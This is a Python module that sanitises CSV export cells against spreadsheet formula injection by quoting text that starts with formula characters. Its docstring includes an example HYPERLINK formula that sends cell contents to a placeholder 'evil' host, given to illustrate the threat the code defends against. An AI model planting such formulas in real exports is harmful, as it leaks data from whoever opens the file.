"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV injection").

A caller's name is whatever the caller's phone sent. Exported as it is, a
name like `=HYPERLINK("http://evil/?"&A1;"Call back")` becomes a live
formula when the owner opens the export in Excel or LibreOffice. Every CSV
the box writes goes through `writer()`, which prefixes a `'` to any text
cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return: the
spreadsheet then shows the text instead of evaluating it.

A cell that is a plain number (`+48601234567`, `-12.50`) is left as it is:
it cannot run anything, and a stray quote would turn phone numbers and
negative amounts into text for every user. Values that are not strings
(counts, durations) are never touched.

Pure: no I/O beyond the file-like object the caller hands in.
"""

from __future__ import annotations

import re
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may safely read it: text that would be a formula gets a `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def unquote_cell(text: str) -> str:
    """Undo safe_cell on import, so an exported file imports back to the same names."""
    if text.startswith("'") and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


class SafeWriter:
    """csv.writer's interface; every cell passes through safe_cell."""

    def __init__(self, out: Any, **kwargs: Any):
        import csv  # here: the core imports this module at every start and writes a CSV file rarely
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> SafeWriter:
    """A CSV writer for exports the owner opens in a spreadsheet."""
    return SafeWriter(out, **kwargs)
